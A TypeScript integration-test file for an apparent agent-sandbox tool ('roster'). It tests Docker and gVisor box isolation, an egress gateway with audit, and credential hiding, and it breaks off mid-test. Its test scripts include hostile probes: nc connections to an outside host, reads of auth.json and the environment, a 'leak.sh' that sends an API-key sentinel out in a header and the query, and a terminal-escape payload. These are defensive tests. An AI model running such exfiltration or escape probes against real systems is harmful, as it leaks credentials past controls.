import Dockerode from "dockerode"
import { execFileSync, spawn } from "node:child_process"
import * as fs from "node:fs"
import * as net from "node:net"
import * as os from "node:os"
import * as path from "node:path"
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
import { egressChainName, lockdownNetworkName } from "../../src/contract/deployment.js"
import { latestRunId } from "../support/runs.js"
import { collect, type Deployment, HOST_KEY, makeDeployment, ROSTER_BIN, TEST_IMAGE } from "../support/deployment.js"
import { makeOutsideHost, type OutsideHost } from "../support/netns.js"
import { removeLockdownRules } from "../support/lockdownRules.js"
import { auditedOnce } from "../support/audit.js"
import { engineGate } from "../support/engineGate.js"
import { ACT, SHOWN_LINES, SHOWN_PROMPT } from "../support/boxScripts.js"
import { leftovers } from "../support/leftovers.js"
import { warmBoxOf } from "../support/warmBoxes.js"

const docker = new Dockerode()
/** The boxes of the deployment under test (never another suite's on the same engine). */
let deploymentLabel = "roster.deployment"
const boxes = () => docker.listContainers({ all: true, filters: { label: ["roster.run-id", deploymentLabel] } })

const lastRun = (d: Deployment, worker = "alice") => {
  const dir = d.file("data", "runs", worker)
  const id = latestRunId(dir)
  return {
    dir: path.join(dir, id),
    record: JSON.parse(fs.readFileSync(path.join(dir, id, "run.json"), "utf8")),
    stdout: fs.existsSync(path.join(dir, id, "stdout.jsonl")) ? fs.readFileSync(path.join(dir, id, "stdout.jsonl"), "utf8") : ""
  }
}

/** A script in the worker's store (mounted at /pihome/store), so the prompt stays one line. */
const script = (d: Deployment, name: string, body: string) => {
  const dir = d.file("data", "stores", "alice")
  fs.mkdirSync(dir, { recursive: true })
  fs.writeFileSync(path.join(dir, name), body, { mode: 0o755 })
  return `!sh /pihome/store/${name}`
}

/** The running boxes, once there is one (30 s at most). */
/** The deployment's running boxes, once there is one: a box of an earlier test still being removed (listed with all: true) is not one. */
const waitForBox = async (list: () => Promise<ReadonlyArray<Dockerode.ContainerInfo>> = boxes) => {
  const deadline = Date.now() + 30_000
  const runningNow = async () => (await list()).filter((c) => c.State === "running")
  let running = await runningNow()
  while (running.length === 0 && Date.now() < deadline) {
    await new Promise((r) => setTimeout(r, 100))
    running = await runningNow()
  }
  return running
}

/** The run's events.jsonl: what the gateway learnt of it (its preflight among them). */
const readEvents = (dir: string): Array<unknown> => {
  const file = path.join(dir, "events.jsonl")
  return fs.existsSync(file) ? fs.readFileSync(file, "utf8").trim().split("\n").filter(Boolean).map((l) => JSON.parse(l)) : []
}

const identityFiles = (d: Deployment) => {
  const dir = d.file("state", "identity")
  return fs.existsSync(dir) ? fs.readdirSync(dir) : []
}


// CONNECT through the gateway from inside the box, with the run's own token from HTTP_PROXY.
const CONNECT = `T=\${HTTP_PROXY#http://}; T=\${T%%:*}; P=\${HTTP_PROXY##*:}
A=$(printf '%s:x' "$T" | base64 | tr -d '\\n')
connect() { (printf 'CONNECT %s HTTP/1.1\\r\\nProxy-Authorization: Basic %s\\r\\n\\r\\n' "$1" "$A"; sleep 1) | nc -w 3 host.docker.internal "$P"; }
`

// Every check runs under both runtimes: gVisor (what `auto` takes where it is registered) and runc.
describe.each(["runc", "runsc"] as const)("the one-shot box under %s, on a real Docker engine, through the real gateway", (runtime) => {
  let d: Deployment
  let outside: OutsideHost

  beforeAll(async () => {
    const registered = Object.keys((await docker.info()).Runtimes ?? {})
    if (!registered.includes(runtime)) {
      throw new Error(`the Docker engine has no ${runtime} runtime (it has ${registered.join(", ")}): install and register gVisor — scripts/ensure-host.sh as root, or sudo roster doctor --fix`)
    }
    outside = await makeOutsideHost()
    // Cold boxes: this suite is the box a run starts for itself (a --ceiling run's, a continuation's, a CLI's own)
    // and its runc-against-gVisor comparison; the warm box is warm.test's and warm.e2e's, under the default runtime (gVisor).
    d = await makeDeployment(`[[allow]]\nhosts = ["${"198.51.100.7"}"]\nports = [9099]\nscope = ["org/*"]\n`, TEST_IMAGE, runtime, { box: [`warm = "off"`] })
    deploymentLabel = `roster.deployment=${d.file("config")}`
  })

  afterAll(async () => {
    await d?.stop()
    outside?.close()
  })


  it("runs a box that prints JSON lines and exits 0", async () => {
    const r = await d.roster(["worker", "run", "alice", `!echo '{"type":"one"}'; echo '{"type":"two"}'; ${ACT}act message_user '{"text":"after the check"}'`])
    expect(r.code, r.stderr).toBe(0)
    expect(r.stdout).toMatch(/^box \S+ ended by exit \(exit code 0\)$/m)
    expect(r.stdout).toMatch(/^outputs: \//m)
    const run = lastRun(d)
    expect(run.stdout).toContain(`{"type":"one"}\n{"type":"two"}\nHTTP/1.1 200 OK\n`)
    expect(r.stdout).toContain("message from alice: after the check")
    expect(run.record).toMatchObject({ worker: "alice", kind: "box", ended_by: "exit", exit_code: 0, error: null, runtime })
    // Beside pi, the box checked from inside that its gateway answers as this deployment and that it has no way out;
    // the gateway held the box's action until the check reported, and recorded it.
    // Its probe is the one roster picks for this machine, as doctor says: a TEST-NET address on none of its networks
    // (this CI machine's own network is TEST-NET-1; the suite's outside host is on TEST-NET-2).
    const probe = (JSON.parse((await d.roster(["doctor", "--json"])).stdout) as { preflight: { probe: string; safe: boolean; chosen: boolean } }).preflight
    expect(probe).toMatchObject({ safe: true, chosen: true })
    expect(readEvents(run.dir)).toContainEqual({ kind: "preflight", result: { ok: true, check: "all", detail: `gateway answers, no way out to ${probe.probe}` } })
    expect(run.stdout).not.toContain("roster_preflight")
    expect((await d.roster(["runs", "show", run.record.run_id])).stdout).toContain(`  preflight: passed — gateway answers, no way out to ${probe.probe}\n`)
    expect(identityFiles(d)).toEqual([])
    expect(await boxes()).toEqual([])
  })

  it("a box cut off from its gateway (a stale rule) fails its preflight at once, with the reason and the fix", async () => {
    const info = await docker.getNetwork(lockdownNetworkName(d.file("config"))).inspect()
    const subnet = info.IPAM?.Config?.[0]?.Subnet ?? ""
    const rule = ["INPUT", "-s", subnet, "-p", "tcp", "--dport", String(d.port), "-j", "REJECT", "--reject-with", "tcp-reset"]
    execFileSync("iptables", ["-I", ...rule])
    try {
      const started = Date.now()
      // pi starts beside the check; the failed check stops it (here long before its sleep ends).
      const r = await d.roster(["worker", "run", "alice", "!echo pi-started; sleep 60"])
      expect(r.code).toBe(97)
      expect(r.stderr).toMatch(/the box's preflight failed: the gateway at host\.docker\.internal:\d+ does not answer/)
      expect(r.stderr).toContain("roster doctor --fix")
      expect(Date.now() - started).toBeLessThan(15_000)
      const run = lastRun(d)
      expect(run.record).toMatchObject({ preflight: { ok: false, check: "gateway" }, exit_code: 97, ended_by: "exit" })
    } finally {
      execFileSync("iptables", ["-D", ...rule])
    }
  })

  it("the preflight's direct probe: an outside host that answers from this host is not reached from the box; one that is reached fails the run", async () => {
    const allow = `[[allow]]\nhosts = ["198.51.100.7"]\nports = [9099]\nscope = ["org/*"]\n`
    try {
      // The host reaches the outside host; the box must not.
      d.writeOrg(`[box]\npreflight_probe = "${outside.address}:${outside.port}"\n${allow}`)
      const locked = await d.roster(["worker", "run", "alice", `!${ACT}act message_user '{"text":"ran"}'`])
      expect(locked.code, locked.stderr).toBe(0)
      expect(locked.stdout).toContain("message from alice: ran")
      expect(readEvents(lastRun(d).dir)).toContainEqual({ kind: "preflight", result: expect.objectContaining({ ok: true }) })
      // A probe the box can reach (the gateway itself stands in for a way out): the run fails at once. pi,
      // started beside the check, sent an action at once: it was held, then refused — nothing left the box.
      d.writeOrg(`[box]\npreflight_probe = "host.docker.internal:${d.port}"\n${allow}`)
      const started = Date.now()
      const open = await d.roster(["worker", "run", "alice", `!${ACT}act message_user '{"text":"must not arrive"}'; sleep 60`])
      expect(open.code).toBe(97)
      expect(Date.now() - started).toBeLessThan(15_000)
      expect(open.stderr).toMatch(/preflight failed: a direct connection to host\.docker\.internal:\d+ opened: the box has a way out around the gateway/)
      expect(open.stderr).toContain("docker network rm roster-locked-")
      const run = lastRun(d)
      // (Its answer is a 403, unless the box was killed first.)
      expect(run.stdout).not.toContain("HTTP/1.1 200")
      expect(open.stdout).not.toContain("must not arrive")
      expect(fs.existsSync(path.join(run.dir, "messages.jsonl"))).toBe(false)
      // The failure is the run's whichever side stopped the box first: the gateway (from the box's
      // report, an event) or the runner (from the printed line, noted on the record).
      expect(run.record.preflight).toMatchObject({ ok: false, check: "egress" })
    } finally {
      d.writeOrg(allow)
    }
  })

  it("passes the box's exit code through", async () => {
    const r = await d.roster(["worker", "run", "alice", "!exit 7"])
    expect(r.code).toBe(7)
    expect(r.stdout).toContain("ended by exit (exit code 7)")
  })

  it("kills a box that sleeps forever within 2 s of its ceiling and exits 2", async () => {
    const ceilingMin = 0.05 // 3 s
    const trace = path.join(d.home, `ceiling-${runtime}.jsonl`)
    const r = await collect(spawn(ROSTER_BIN, ["worker", "run", "alice", "--ceiling", String(ceilingMin), "!echo started; sleep 100000"], {
      env: { ...d.env, ROSTER_TRACE: trace }, stdio: ["ignore", "pipe", "pipe"]
    }))
    expect(r.code, r.stderr).toBe(2)
    expect(r.stdout).toContain("ended by ceiling")
    const run = lastRun(d)
    expect(run.record.ended_by).toBe("ceiling")
    const took = Date.parse(run.record.finished_at) - Date.parse(run.record.started_at)
    expect(took).toBeGreaterThanOrEqual(ceilingMin * 60_000)
    // The ceiling is one moment, read once just before the box was made (its provisioning, an image
    // pull among it, counts against no run): the label the reaper goes by, recorded, and the
    // runner's timer. The box is killed at it, and its end collected within 2 s.
    const deadline = Date.parse(run.record.deadline)
    expect(deadline - Date.parse(run.record.started_at)).toBeGreaterThanOrEqual(ceilingMin * 60_000)
    expect(Date.parse(run.record.finished_at) - deadline).toBeGreaterThanOrEqual(0)
    expect(Date.parse(run.record.finished_at) - deadline).toBeLessThan(2_000)
    // The wait for the box (its trace span) is the ceiling less the box's own making and starting.
    const spans = fs.readFileSync(trace, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { name: string; ms: number })
    const waited = spans.find((x) => x.name === "box.await")?.ms ?? Number.NaN
    expect(waited).toBeGreaterThanOrEqual(ceilingMin * 60_000 - 1_500)
    expect(waited).toBeLessThanOrEqual(ceilingMin * 60_000)
    expect(run.stdout).toContain("started")
    expect(identityFiles(d)).toEqual([])
    expect(await boxes()).toEqual([])
  })

  it("a default box is bounded: 4g of memory and half the host's cores", async () => {
    const child = d.spawn(["worker", "run", "alice", "!sleep 30"])
    const done = collect(child)
    const [box] = await waitForBox()
    const info = await docker.getContainer(box?.Id ?? "").inspect()
    child.kill("SIGINT")
    await done
    expect(info.HostConfig.Memory).toBe(4 * 1024 ** 3)
    expect(info.HostConfig.NanoCpus).toBe((os.availableParallelism() / 2) * 1e9)
  })

  it("inside the box: not root, no capabilities, no new privileges, a bounded /tmp, no host key", async () => {
    const r = await d.roster(["worker", "run", "alice", script(d, "probe.sh", [
      "echo uid=$(id -u)",
      "grep -E '^(CapEff|CapPrm):' /proc/self/status",
      // prctl's word (gVisor's /proc has no NoNewPrivs line), and whose kernel answers.
      "setpriv --dump | grep no_new_privs",
      "echo \"kernel: $(dmesg 2>&1 | head -n 1)\"",
      "grep ' /tmp ' /proc/mounts",
      "df -k /tmp | tail -n 1",
      "echo home=$HOME pwd=$(pwd)",
      "env",
      "cat /pihome/agent/settings.json; cat /pihome/agent/auth.json 2>/dev/null; true"
    ].join("\n"))])
    expect(r.code, r.stderr).toBe(0)
    const out = lastRun(d).stdout
    expect(out).toMatch(/^uid=(\d+)$/m)
    expect(out).not.toMatch(/^uid=0$/m)
    expect(out).toMatch(/^CapEff:\s+0000000000000000$/m)
    expect(out).toMatch(/^CapPrm:\s+0000000000000000$/m)
    expect(out).toMatch(/^no_new_privs: 1$/m)
    if (runtime === "runsc") expect(out).toMatch(/^kernel: .*Starting gVisor/m)
    else expect(out).not.toContain("gVisor")
    // gVisor names the filesystem "none"; its type is tmpfs either way.
    expect(out).toMatch(/^\S+ \/tmp tmpfs /m)
    const tmp = /^\S+\s+(\d+)\s.*\s\/tmp$/m.exec(out)
    expect(tmp).not.toBeNull()
    expect(Number(tmp?.[1])).toBeLessThanOrEqual(1024 * 1024)
    expect(out).toContain("home=/pihome pwd=/pihome/workspace")
    expect(out).toContain("ANTHROPIC_API_KEY=roster-sentinel-no-real-credential-in-box")
    expect(out).not.toContain(HOST_KEY)
  })

  it("a direct connection to an outside host fails, though the host itself reaches it", async () => {
    // The control: from the host, the stand-in outside host answers.
    const greeting = await new Promise<string>((resolve, reject) => {
      const s = net.connect(outside.port, outside.address)
      let data = ""
      s.on("data", (c) => (data += c.toString()))
      s.on("end", () => resolve(data))
      s.on("error", reject)
    })
    expect(greeting).toContain(outside.greeting)
    const r = await d.roster(["worker", "run", "alice", `!nc -w 3 ${outside.address} ${outside.port}; echo "direct-rc=$?"`])
    expect(r.code, r.stderr).toBe(0)
    const out = lastRun(d).stdout
    expect(out).not.toContain(outside.greeting)
    expect(out).toMatch(/direct-rc=[1-9]/)
  })

  it("through the gateway an allowed host:port tunnels and any other is refused", async () => {
    const r = await d.roster(["worker", "run", "alice", script(d, "gw.sh", CONNECT + [
      `connect ${outside.address}:${outside.port}`,
      "echo ---",
      `connect ${outside.address}:${outside.httpPort}`,
      "echo ---",
      `connect 198.51.100.8:${outside.port}`
    ].join("\n"))])
    expect(r.code, r.stderr).toBe(0)
    const [allowed, otherPort, otherHost] = lastRun(d).stdout.split("---")
    expect(allowed).toContain("HTTP/1.1 200 Connection Established")
    expect(allowed).toContain(outside.greeting)
    expect(otherPort).toContain("HTTP/1.1 403")
    expect(otherPort).not.toContain(outside.greeting)
    expect(otherHost).toContain("HTTP/1.1 403")
    // Every request is audited with the run's identity.
    const auditDir = d.file("state", "audit")
    const runId = lastRun(d).record.run_id
    // A tunnel's line is written once both its sides have closed, which can be a moment after the run ended.
    const records = await auditedOnce(auditDir, (lines) => lines.filter((x) => x.run_id === runId && x.host !== "roster-gateway").length >= 3)
    // (The box's preflight report is one of its requests too: not an egress one.)
    const mine = records.filter((x) => x.run_id === runId && x.host !== "roster-gateway")
    expect(mine.map((x) => x.status).sort()).toEqual([200, 403, 403])
    expect(mine.every((x) => x.subject === "org/alice")).toBe(true)
  })

  it("a request without the run's token from a box is refused with 407", async () => {
    const r = await d.roster(["worker", "run", "alice", script(d, "notoken.sh", [
      "P=${HTTP_PROXY##*:}",
      `(printf 'CONNECT ${outside.address}:${outside.port} HTTP/1.1\\r\\n\\r\\n'; sleep 1) | nc -w 3 host.docker.internal "$P"`,
      "echo ---",
      `(printf 'CONNECT ${outside.address}:${outside.port} HTTP/1.1\\r\\nProxy-Authorization: Basic %s\\r\\n\\r\\n' "$(printf '%064d:x' 0 | base64 | tr -d '\\n')"; sleep 1) | nc -w 3 host.docker.internal "$P"`
    ].join("\n"))])
    expect(r.code, r.stderr).toBe(0)
    const [none, unknown] = lastRun(d).stdout.split("---")
    expect(none).toContain("407")
    expect(unknown).toContain("407")
    expect(lastRun(d).stdout).not.toContain(outside.greeting)
  })

  it("/healthz from a box says only that the gateway is up and whose it is (an opaque id): no path, version or credential of the host", async () => {
    const r = await d.roster(["worker", "run", "alice", script(d, "healthz.sh", [
      "P=${HTTP_PROXY##*:}",
      `(printf 'GET /healthz HTTP/1.0\r\nHost: roster\r\n\r\n'; sleep 1) | nc -w 3 host.docker.internal "$P"`
    ].join("\n"))])
    expect(r.code, r.stderr).toBe(0)
    const answer = lastRun(d).stdout
    const line = answer.split("\n").find((l) => l.includes("deployment_id")) ?? ""
    const body = JSON.parse(line.slice(line.indexOf("{"), line.lastIndexOf("}") + 1)) as Record<string, unknown>
    expect(Object.keys(body).sort()).toEqual(["deployment_id", "ok"])
    expect(body.ok).toBe(true)
    expect(answer).not.toContain(d.file("config"))
    expect(line).not.toMatch(/config_root|version|credentials/)
  })

  it("a vault credential and the host key exist nowhere in the box: not its env, docker inspect, or the run dir", async () => {
    const VAULT_KEY = "sk-ant-vault-REAL-9f8e7d6c5b4a"
    const added = await collect(d.spawn(["connection", "add", "anthropic", "--from-env", "VAULT_KEY_FOR_TEST"]))
    expect(added.code, added.stderr).toBe(1) // not in the environment yet: refused, nothing stored
    const withEnv = spawnWith(d, { VAULT_KEY_FOR_TEST: VAULT_KEY }, ["connection", "add", "anthropic", "--from-env", "VAULT_KEY_FOR_TEST"])
    expect((await collect(withEnv)).code).toBe(0)
    const listed = await d.roster(["connection", "list", "--json"])
    expect(JSON.parse(listed.stdout).map((c: { name: string }) => c.name)).toEqual(["anthropic"])
    expect(listed.stdout).not.toContain(VAULT_KEY)
    expect(fs.statSync(d.file("data", "vault", "anthropic.json")).mode & 0o777).toBe(0o600)
    expect(fs.statSync(d.file("data", "vault")).mode & 0o777).toBe(0o700)

    const child = d.spawn(["worker", "run", "alice", "!env; cat /pihome/agent/auth.json; sleep 3"])
    const done = collect(child)
    const running = await waitForBox()
    const inspected = JSON.stringify(await docker.getContainer(running[0]?.Id ?? "").inspect())
    expect(inspected).toContain("HTTPS_PROXY=http://")
    expect(inspected).not.toContain(VAULT_KEY)
    expect(inspected).not.toContain(HOST_KEY)
    expect((await done).code).toBe(0)
    const run = lastRun(d)
    expect(run.stdout).toContain('"key": "roster-sentinel-no-real-credential-in-box"')
    const everything = (fs.readdirSync(run.dir, { recursive: true }) as Array<string>)
      .map((f) => path.join(run.dir, f)).filter((f) => fs.statSync(f).isFile()).map((f) => fs.readFileSync(f, "utf8")).join("\n")
    expect(everything).not.toContain(VAULT_KEY)
    expect(everything).not.toContain(HOST_KEY)
    await d.roster(["connection", "rm", "anthropic"])
  })

  it("with egress_lockdown the host is reachable from a box only on the gateway port; the lockdown is its deployment's alone", async () => {
    const hostPortServer = net.createServer((s) => s.end("host-service-reached\n"))
    await new Promise<void>((resolve) => hostPortServer.listen(0, "0.0.0.0", resolve))
    const hostPort = (hostPortServer.address() as net.AddressInfo).port
    const body = CONNECT + [
      `nc -w 3 host.docker.internal ${hostPort}; echo "other-rc=$?"`,
      "echo ---",
      `connect ${outside.address}:${outside.port}`
    ].join("\n")
    const probe = script(d, "hostports.sh", body)
    const allow = `[[allow]]\nhosts = ["198.51.100.7"]\nports = [9099]\nscope = ["org/*"]\n`
    const chain = egressChainName(d.file("config"))
    const chains = () => ["iptables", "ip6tables"].map((t) => execFileSync(t, ["-S"]).toString()).join("\n")
    let other: Deployment | undefined
    try {
      // The control: without the lockdown a box reaches the host's other ports.
      const open = await d.roster(["worker", "run", "alice", probe])
      expect(open.code, open.stderr).toBe(0)
      expect(lastRun(d).stdout).toContain("host-service-reached")

      d.writeOrg(`[box]\negress_lockdown = true\n${allow}`)
      const locked = await d.roster(["worker", "run", "alice", probe])
      expect(locked.code, locked.stderr).toBe(0)
      const [blocked, gateway] = lastRun(d).stdout.split("---")
      expect(blocked).not.toContain("host-service-reached")
      expect(blocked).toMatch(/other-rc=[1-9]/)
      expect(gateway).toContain("200 Connection Established")
      expect(gateway).toContain(outside.greeting)
      expect(chains()).toContain(`-N ${chain}`)

      // A second deployment on the same host, without the lockdown and on another port: its
      // boxes are on its own network, untouched by the first one's chain.
      other = await makeDeployment(allow, TEST_IMAGE, runtime, { box: [`warm = "off"`] })
      const store = other.file("data", "stores", "alice")
      fs.mkdirSync(store, { recursive: true })
      fs.writeFileSync(path.join(store, "hostports.sh"), body, { mode: 0o755 })
      const second = await other.roster(["worker", "run", "alice", "!sh /pihome/store/hostports.sh"])
      expect(second.code, second.stderr).toBe(0)
      const secondRun = lastRun(other).stdout
      expect(secondRun).toContain("host-service-reached")
      expect(secondRun).toContain("200 Connection Established")

      // Lockdown off again: the next run is as open as the control, and no rule of the first is left.
      d.writeOrg(allow)
      const reopened = await d.roster(["worker", "run", "alice", probe])
      expect(reopened.code, reopened.stderr).toBe(0)
      expect(lastRun(d).stdout).toContain("host-service-reached")
      expect(chains()).not.toContain(chain)
    } finally {
      hostPortServer.close()
      await other?.stop()
      d.writeOrg(allow)
      removeLockdownRules(chain)
    }
  })

  it("roster server stop leaves no rule of its deployment behind", async () => {
    const chain = egressChainName(d.file("config"))
    const allow = `[[allow]]\nhosts = ["198.51.100.7"]\nports = [9099]\nscope = ["org/*"]\n`
    try {
      d.writeOrg(`[box]\negress_lockdown = true\n${allow}`)
      await d.stop()
      expect((await d.roster(["server", "start"])).code).toBe(0)
      expect(execFileSync("iptables", ["-S"]).toString()).toContain(`-N ${chain}`)
      await d.stop()
      for (const tool of ["iptables", "ip6tables"]) expect(execFileSync(tool, ["-S"]).toString()).not.toContain(chain)
    } finally {
      d.writeOrg(allow)
      removeLockdownRules(chain)
      await d.roster(["server", "start"])
    }
  })
})

const spawnWith = (d: Deployment, extra: Record<string, string>, args: ReadonlyArray<string>) =>
  spawn(ROSTER_BIN, [...args], { env: { ...d.env, ...extra }, stdio: ["ignore", "pipe", "pipe"] })

// A check of roster's own — the CLI's lines and signals, the hand-over to the daemon, the gateway's
// audit and tokens — is the same whatever runs the box: made once, under what a user gets (the
// runtime roster picks, gVisor here, and warm boxes on: a handed-over run takes its worker's warm box).
// What the runtime could change (the lockdown, egress, the box's limits and insides, the preflight,
// exit codes, the ceiling's kill) is made under both runtimes above, cold.
describe("roster's own handling of a run under the defaults (gVisor, warm boxes), on a real Docker engine, through the real gateway", () => {
  let d: Deployment
  let outside: OutsideHost
  const runtime = "runsc"

  beforeAll(async () => {
    outside = await makeOutsideHost()
    d = await makeDeployment(`[[allow]]\nhosts = ["${"198.51.100.7"}"]\nports = [9099]\nscope = ["org/*"]\n`, TEST_IMAGE)
    deploymentLabel = `roster.deployment=${d.file("config")}`
    // A first run of alice: the daemon keeps a warm box for a worker that ran lately.
    const first = await d.roster(["worker", "run", "alice", "!exit 0"])
    expect(first.code, first.stderr).toBe(0)
  })

  // Each check's run takes alice's warm box, as a user's next run would: the daemon makes the next one after each run.
  beforeEach(async () => {
    expect(await warmBoxOf(docker, d.file("config"), "alice"), "alice's warm box").not.toBe("")
  })

  afterAll(async () => {
    await d?.stop()
    outside?.close()
  })

  /** The deployment's boxes that are not warm boxes waiting: a run's (a cold box, or a warm box a run took). */
  const runBoxes = async () => (await leftovers(d.file("config"), d.file("state"), { all: true })).runBoxes
  /** Tokens that are a run's, not a waiting warm box's. */
  const runTokens = () => identityFiles(d).filter((f) => !(JSON.parse(fs.readFileSync(d.file("state", "identity", f), "utf8")) as { warm?: boolean }).warm)
  /** A run's box running, once there is one (30 s at most): not a warm box waiting. */
  const waitForRunBox = () => waitForBox(runBoxes)
  /** Until the run tokens number `n` (10 s at most): the caller's expectation then says what there was. */
  const runTokensSettle = async (n: number) => {
    const deadline = Date.now() + 10_000
    while (runTokens().length !== n && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
  }

  it("box text with terminal escapes is shown, never obeyed: worker run's live view and runs show", async () => {
    // \u001b in the JSON is a real ESC once parsed: a window-title write and a screen clear.
    const event = `{"type":"message_end","message":{"role":"assistant","content":[{"type":"text","text":"hi \\u001b]0;pwned\\u0007 \\u001b[2J there"}],"stopReason":"stop"}}`
    const r = await d.roster(["worker", "run", "alice", `!echo '${event}'`])
    expect(r.code, r.stderr).toBe(0)
    expect(r.stdout).toContain("alice: hi ␛]0;pwned␇ ␛[2J there")
    expect(r.stdout).not.toContain("\x1b")
    const shown = await d.roster(["runs", "show", lastRun(d).record.run_id])
    expect(shown.stdout).toContain("final text: hi ␛]0;pwned␇")
    expect(shown.stdout).toMatch(new RegExp(`^  runtime:   ${runtime} \\(gVisor\\)$`, "m"))
    // The run took alice's warm box, whose check had reported before the run began.
    expect(lastRun(d).record).toMatchObject({ warm: true, preflight: { ok: true } })
    expect(shown.stdout).toContain("  preflight: passed")
    expect(shown.stdout).not.toContain("\x1b")
  })

  it("a ceiling's kill the engine refuses is said at once and recorded; the daemon's reaper stops the box once its deadline has passed", async () => {
    const gate = await engineGate(/^NEVER/, { refuse: /^POST \S*\/containers\/\S+\/kill/ })
    try {
      // Run by the CLI itself (its engine is not the daemon's), through a gate that refuses every kill.
      const r = await collect(spawn(ROSTER_BIN, ["worker", "run", "alice", "--ceiling", "0.05", "!echo started; sleep 100000"], {
        env: { ...d.env, DOCKER_HOST: gate.dockerHost }, stdio: ["ignore", "pipe", "pipe"]
      }))
      expect(r.code, r.stderr).toBe(2)
      expect(r.stderr).toMatch(/its box's kill was refused by the engine \(.*refused by the test's engine gate.*\); it may still run/)
      expect(gate.refused.length).toBeGreaterThan(0)
      const run = lastRun(d)
      expect(run.record).toMatchObject({ ended_by: "ceiling", kill_error: expect.stringContaining("refused by the test's engine gate") })
      // Its owner (the CLI) gone and its deadline passed: the daemon, on the real engine, kills it.
      const deadline = Date.now() + 20_000
      while ((await runBoxes()).length > 0 && Date.now() < deadline) await new Promise((res) => setTimeout(res, 250))
      expect(await runBoxes()).toEqual([])
      await runTokensSettle(0)
      expect(runTokens()).toEqual([])
    } finally {
      gate.close()
    }
  })

  it.each([["SIGINT", 130], ["SIGTERM", 143]] as const)(
    "on %s leaves no container, no token, and run.json ended_by signal; exits %i",
    async (signal, code) => {
      const child = d.spawn(["worker", "run", "alice", "!sleep 100000"])
      const done = collect(child)
      try {
        expect(await waitForRunBox()).toHaveLength(1)
        // The warm box's token is bound to the run a moment after the box is renamed to it.
        await runTokensSettle(1)
        expect(runTokens()).toHaveLength(1)
      } finally {
        child.kill(signal)
      }
      const r = await done
      expect(r.code).toBe(code)
      expect(await runBoxes()).toEqual([])
      await runTokensSettle(0)
      expect(runTokens()).toEqual([])
      const run = lastRun(d)
      expect(run.record.ended_by).toBe("signal")
      // The two closing lines every ending prints, printed after the box is gone.
      expect(r.stdout).toContain(`box ${run.record.run_id} ended by signal (exit code none)`)
      expect(r.stdout).toContain(`outputs: ${d.file("data", "runs", "alice", run.record.run_id)}`)
    }
  )

  it("worker run is handed to the running daemon: the same lines, on the same streams, and the same exit code as the CLI running it itself", async () => {
    const prompt = SHOWN_PROMPT
    const runWith = (handoff: "0" | "1") =>
      collect(spawn(ROSTER_BIN, ["worker", "run", "alice", "--ceiling", "5", prompt], { env: { ...d.env, ROSTER_HANDOFF: handoff }, stdio: ["ignore", "pipe", "pipe"] }))
    const itself = await runWith("0")
    const itselfRun = lastRun(d)
    const handed = await runWith("1")
    const handedRun = lastRun(d)
    // The daemon ran the second (the run's record names the daemon as its owner), the CLI the first.
    expect(handedRun.record.run_id).not.toBe(itselfRun.record.run_id)
    expect(itselfRun.record.owner.pid).not.toBe(handedRun.record.owner.pid)
    expect(handedRun.record.owner.pid).toBe((JSON.parse((await d.roster(["server", "status", "--json"])).stdout) as { pid: number }).pid)
    const same = (s: string, runId: string) => s.replaceAll(runId, "RUN")
    expect(handed.code).toBe(5)
    expect(itself.code).toBe(5)
    expect(same(handed.stdout, handedRun.record.run_id)).toBe(same(itself.stdout, itselfRun.record.run_id))
    expect(same(handed.stderr, handedRun.record.run_id)).toBe(same(itself.stderr, itselfRun.record.run_id))
    // What both printed: the live lines (box text escaped), the message, the stderr tail, the two closing lines.
    expect(handed.stdout).toContain(SHOWN_LINES)
    expect(handed.stdout).toContain("message from alice: a note\n")
    expect(handed.stdout).toContain(`box ${handedRun.record.run_id} ended by exit (exit code 5)\n`)
    expect(handed.stderr).toContain("to stderr")
    expect(handedRun.record).toMatchObject({ kind: "box", ended_by: "exit", exit_code: 5 })
  })

  it("a handed-over run whose CLI is killed with -9 ends at once: its box and token gone, its record finished", async () => {
    const child = d.spawn(["worker", "run", "alice", "!sleep 100000"])
    const done = collect(child)
    expect(await waitForRunBox()).toHaveLength(1)
    child.kill("SIGKILL")
    await done
    const deadline = Date.now() + 10_000
    while ((await runBoxes()).length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
    expect(await runBoxes()).toEqual([])
    await runTokensSettle(0)
    expect(runTokens()).toEqual([])
    // The record is finished last, as the run's scope closes (after its box and token are gone).
    // A record not yet finished has finished_at null (run.json's schema), so wait on it being a string.
    while (typeof lastRun(d).record?.finished_at !== "string" && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
    expect(lastRun(d).record).toMatchObject({ ended_by: "signal", finished_at: expect.any(String) })
  })

  it("a request that leaves with the sentinel is audited by place, and worker run warns once", async () => {
    const allow = (port: number) => `[[allow]]\nhosts = ["${outside.address}"]\nports = [${port}]\nscope = ["org/*"]\n`
    d.writeOrg(`${allow(outside.port)}${allow(outside.httpPort)}`)
    try {
      // A plain-http request through the proxy, carrying the box's sentinel (its ANTHROPIC_API_KEY) in a header and the query.
      const send = `(printf 'GET http://${outside.address}:${outside.httpPort}/x?k=%s HTTP/1.1\\r\\nHost: ${outside.address}\\r\\n` +
        `Proxy-Authorization: Basic %s\\r\\nX-Other: %s\\r\\nConnection: close\\r\\n\\r\\n' "$ANTHROPIC_API_KEY" "$A" "$ANTHROPIC_API_KEY"; sleep 1) | nc -w 3 host.docker.internal "$P"`
      const r = await d.roster(["worker", "run", "alice", script(d, "leak.sh", `${CONNECT}${send}\n${send}\n`)])
      expect(r.code, r.stderr).toBe(0)
      const runId = lastRun(d).record.run_id
      const warnings = r.stderr.split("\n").filter((l) => l.startsWith("warning: a request to"))
      expect(warnings).toHaveLength(1)
      expect(warnings[0]).toContain("header:x-other, query")
      expect(lastRun(d).record.warnings).toHaveLength(1)
      const audited = fs.readdirSync(d.file("state", "audit")).flatMap((f) => fs.readFileSync(path.join(d.file("state", "audit"), f), "utf8").trim().split("\n"))
        .map((l) => JSON.parse(l)).filter((x) => x.run_id === runId && x.host !== "roster-gateway")
      expect(audited.map((x) => x.sentinel_unsubstituted)).toEqual([["header:x-other", "query"], ["header:x-other", "query"]])
      expect((await d.roster(["runs", "show", runId])).stdout).toContain("warning:   a request to")
    } finally {
      d.writeOrg(allow(outside.port))
    }
  })

  it("a token is dead once its run has ended, even if its file were left behind", async () => {
    const r = await d.roster(["worker", "run", "alice", "!echo proxy=$HTTP_PROXY"])
    expect(r.code, r.stderr).toBe(0)
